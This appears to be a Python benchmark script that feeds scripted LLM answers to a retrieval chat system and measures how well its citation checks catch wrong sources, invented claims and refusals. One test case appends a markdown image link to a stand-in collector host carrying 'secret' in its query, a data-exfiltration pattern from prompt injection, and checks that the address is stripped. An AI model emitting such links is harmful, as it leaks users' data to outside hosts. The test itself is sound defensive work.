"""What the conversation makes of what a language model might say: right, of the wrong source, invented, uncited, obeying."""

from __future__ import annotations

import json
import tempfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pandas as pd
from rich.console import Console
from rich.progress import track

from benchmarks.server_code import server_code
from chatsearch.citations import Check
from chatsearch.conversation import Conversation
from chatsearch.events import Answered
from chatsearch.results import Answer, ResultSet
from chatsearch.services import Services
from chatsearch.settings import Settings
from chatsearch.spec import Spec

STATEMENTS = Path(__file__).resolve().parents[1] / "tests" / "data" / "statements.jsonl"
OTHERS = 19
PICTURE = "![status](https://collector.example/log?q={})"


@dataclass(frozen=True)
class Case:
    """A paragraph of an article, another one of it, what a right answer says, and what an invented one says."""

    title: str
    text: str
    other: str
    true: str
    invented: str


@dataclass(frozen=True)
class Kind:
    """A kind of answer: what the model says, and whether what came of it is as it should be."""

    name: str
    said: Callable[[Case], str]
    good: Callable[[Answer], bool]


def _found(answer: Answer) -> bool:
    return bool(answer.footnotes) and any(note.check is not Check.NOT_FOUND for note in answer.footnotes)


def _shown_as_unfounded(answer: Answer) -> bool:
    return bool(answer.unsupported) or any(note.check is Check.NOT_FOUND for note in answer.footnotes)


KINDS = (
    Kind("right, right source: found", lambda case: f"{case.true} [1]", _found),
    Kind("right, wrong source: not found", lambda case: f"{case.true} [2]", _shown_as_unfounded),
    Kind("invented, with a footnote: not found", lambda case: f"{case.invented} [1]", _shown_as_unfounded),
    Kind("right, no footnote: gets one", lambda case: case.true, _found),
    Kind("invented, no footnote: marked", lambda case: case.invented, _shown_as_unfounded),
    Kind(
        "obeys an order to show a picture: no address left",
        lambda case: f"{case.true} [1] {PICTURE.format('secret')}",
        lambda answer: "collector.example" not in answer.text,
    ),
    Kind("says it does not know: refused", lambda case: "NOT_IN_DOCUMENTS", lambda answer: answer.refused),
    Kind(
        "says nothing: the extractive answer", lambda case: "", lambda answer: answer.model == "extractive" and bool(answer.text)
    ),
)


async def measure_scripted(most: int) -> None:
    """Prints the share of each kind that is treated as it should be."""
    cases = _cases()[:most]
    say = Console(width=160).print
    say(f"\n| what a scripted LLM says of {len(cases)} result sets of {OTHERS + 1} documents | share |\n| --- | --- |")
    with server_code().openai_server() as server, tempfile.TemporaryDirectory() as folder:
        settings = Settings(
            data_dir=Path(folder),
            model="openai/scripted",
            llm_base_url=server.url,
            llm_cache_mb=0,
            llm_retries=0,
            llm_window=32_000,
        )
        services = Services(settings)
        for kind in KINDS:
            good = [
                kind.good(await _answer(services, server, cases, place, kind)) for place in track(range(len(cases)), kind.name)
            ]
            say(f"| {kind.name} | {sum(good) / len(good):.3f} |")


async def _answer(services: Services, server: Any, cases: list[Case], place: int, kind: Kind) -> Answer:
    case = cases[place]
    server.enqueue(kind.said(case))
    spec = Spec.load({"pipeline": {"1": {"id": "index_datasource"}}}, services.registry)
    talk = Conversation(services, spec, _result_set(cases, place))
    async for event in talk.ask(f"What is known about {case.title}?"):
        if isinstance(event, Answered):
            return event.answer
    raise AssertionError("a follow-up ends with Answered")


def _result_set(cases: list[Case], place: int) -> ResultSet:
    """The case's paragraph as document 1, another of its article as 2, then those of the cases after it."""
    texts = [cases[place].text, cases[place].other]
    later = [cases[(place + step) % len(cases)].text for step in range(1, len(cases))]
    texts += [text for text in dict.fromkeys(later) if text not in texts][: OTHERS - 1]
    rows = [
        {"id": f"d{n}", "title": "", "url": "", "full-text": text, "_source_index_": "x", "_original_ranking_": n}
        for n, text in enumerate(texts, start=1)
    ]
    asked = "What do the documents say?"
    return ResultSet(asked, asked, pd.DataFrame(rows), {"full-text": ("text",)}).numbered()[0]


def _cases() -> list[Case]:
    """The English ones of the labelled sentences that have a true and an invented statement."""
    found = []
    for line in STATEMENTS.read_text(encoding="utf-8").splitlines():
        row = json.loads(line)
        said = {one["kind"]: one["text"] for one in row["statements"]}
        if row["language"] == row["document_language"] == "en" and {"true", "invented"} <= said.keys():
            found.append(Case(row["title"].replace("_", " "), row["text"], row["other"], said["true"], said["invented"]))
    return found
